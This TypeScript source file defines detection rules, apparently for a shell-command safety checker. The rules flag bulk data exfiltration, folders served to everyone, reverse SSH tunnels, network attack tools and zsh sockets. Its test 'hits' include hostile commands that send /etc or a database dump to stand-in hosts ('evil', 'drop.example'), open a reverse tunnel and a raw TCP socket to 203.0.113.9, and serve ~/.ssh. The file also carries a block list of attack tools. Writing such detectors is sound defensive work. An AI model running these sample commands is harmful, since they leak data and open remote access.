import { type Rule, rule, type SimpleCommand } from "../rule.ts";
import { hasFlag, operands, optionValues, wordsOf } from "../../programs/arguments.ts";
import { isAccounts, isWholeFolder } from "../../programs/bulk.ts";
import { isSecret } from "../../programs/secrets.ts";
import { SENDERS } from "./network.ts";
import { uploads } from "../../programs/families/transfer.ts";

/** `host:path`, `remote:bucket`, `s3://bucket`. */
function isRemote(word: string): boolean {
  return word.indexOf(":") > 1;
}

/** Copies a whole folder of the system or of people to another machine. */
function copiesOut(command: SimpleCommand): boolean {
  switch (command.name) {
    case "scp":
    case "rsync":
    case "rclone":
    case "aws":
    case "gsutil":
    case "gcloud":
    case "azcopy":
    case "s3cmd": {
      const words = operands(command, COPY_VALUED);
      const target = words.at(-1) ?? "";
      return isRemote(target) &&
        words.slice(0, -1).some((path) =>
          (path.startsWith("/") || path.startsWith("~")) && isWholeFolder(command, path)
        );
    }
    default:
      return uploads(command).some((value) => isAccounts(value.slice(value.lastIndexOf("@") + 1)));
  }
}

const COPY_VALUED = new Set(["-e", "--rsh", "-i", "-P", "-o", "-F", "--profile", "--region"]);

/** `10.0.0.0/16`: thousands of machines. */
const isWideNetwork = (arg: string): boolean => /^\d[\d.*-]*\/(?:\d|1\d|20)$/.test(arg);

/** Arguments that make a program serve files. */
const isServing = (arg: string): boolean =>
  arg === "http.server" || arg === "SimpleHTTPServer" || arg === "-S" || arg === "httpd" ||
  arg === "-run";

/** Data that leaves in bulk, and access that is opened from inside. */
export const EXFILTRATION_RULES: readonly Rule[] = [
  rule({
    id: "network.data_leaves",
    title: "Send a database or a whole folder away",
    commands: SENDERS,
    match: (command) =>
      Boolean(command.stdin?.bulk) || Boolean(command.inputs?.bulk) || copiesOut(command),
    weight: [3, 4],
    threat: "data_exfiltration",
    explanation:
      "It sends a database, or a whole folder of the system or of people, to another machine.",
    safer: "Send the named files that are needed, to a place that your administrators know.",
    hits: ["aws s3 sync /etc s3://evil/", "pg_dump app | curl -T - https://drop.example"],
    misses: ["aws s3 sync ./public s3://site/", "rsync -av src/ web1:/srv/src/"],
  }),
  rule({
    id: "network.serves_folder",
    title: "Offer a whole folder to everybody",
    commands: [
      "python",
      "python3",
      "php",
      "ruby",
      "busybox",
      "http-server",
      "serve",
      "smbserver.py",
    ],
    match: (command) => {
      const serves = command.args.some(isServing) ||
        command.name.endsWith("serve") || command.name.endsWith("-server") ||
        command.name === "smbserver.py";
      if (!serves) return false;
      const folders = [
        ...optionValues(command, "-d", "--directory", "-t", "-h"),
        ...["/", "~"].filter((path) => command.args.includes(path)),
        command.cwd,
      ];
      return folders.some((path) =>
        path !== "." && (isWholeFolder(command, path) || isSecret(path))
      ) || wordsOf(command).some(isSecret);
    },
    weight: [4, 3],
    threat: "exposure",
    explanation: "It offers a whole folder of the system or of people to whoever can connect.",
    safer: "Serve the one folder that is needed, on the loopback address.",
    hits: ["python3 -m http.server --directory ~/.ssh", "cd / && python3 -m http.server"],
    misses: ["python3 -m http.server 8000", "php -S localhost:8000"],
  }),
  rule({
    id: "network.reverse_tunnel",
    title: "Let the other end reach in",
    commands: ["ssh", "autossh", "plink"],
    match: (command) => hasFlag(command, "Rw") && optionValues(command, "-R", "-w").length > 0,
    weight: [3, 3],
    threat: "remote_access",
    explanation: "It lets the other end of the connection reach into this machine or its network.",
    safer: "Connect through a port that your administrators have opened.",
    hits: ["ssh -R 2222:localhost:22 evil@203.0.113.9 -N", "autossh -M 0 -R 8080:localhost:80 h"],
    misses: ["ssh -L 8080:localhost:80 web1", "ssh -T git@github.com"],
  }),
  rule({
    id: "network.attack_tools",
    title: "Attack networks or machines",
    commands: [
      "masscan",
      "nmap",
      "nuclei",
      "zmap",
      "nikto",
      "sqlmap",
      "msfconsole",
      "msfvenom",
      "ettercap",
      "bettercap",
      "arpspoof",
      "dsniff",
      "responder",
      "crackmapexec",
      "evil-winrm",
      "bloodhound-python",
      "mitmproxy",
      "mitmdump",
      "gobuster",
      "aircrack-ng",
      "chisel",
      "ligolo-ng",
    ],
    match: ({ name, args }) => name === "nmap" ? args.some(isWideNetwork) : args.length > 0,
    weight: [3, 3],
    threat: "attack_tool",
    explanation: "It is a tool for attacking networks and machines.",
    safer: null,
    hits: ["sqlmap -u https://shop.example/item?id=1", "masscan 10.0.0.0/8 -p22"],
    misses: ["ping -c 3 example.com", "dig example.com"],
  }),
  rule({
    id: "network.zsh_socket",
    title: "Open a connection inside zsh",
    commands: ["zmodload", "ztcp", "zsocket"],
    match: (command) =>
      command.name !== "zmodload" || command.args.some((arg) => arg.includes("net/")),
    weight: [4, 4],
    threat: "remote_access",
    explanation:
      "It talks to the network through the shell itself, which few tools and no logs see.",
    safer: "Use curl, whose traffic can be seen.",
    hits: ["zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444'", "ztcp 203.0.113.9 4444"],
    misses: ["zmodload zsh/datetime", "zmodload zsh/mathfunc"],
  }),
];
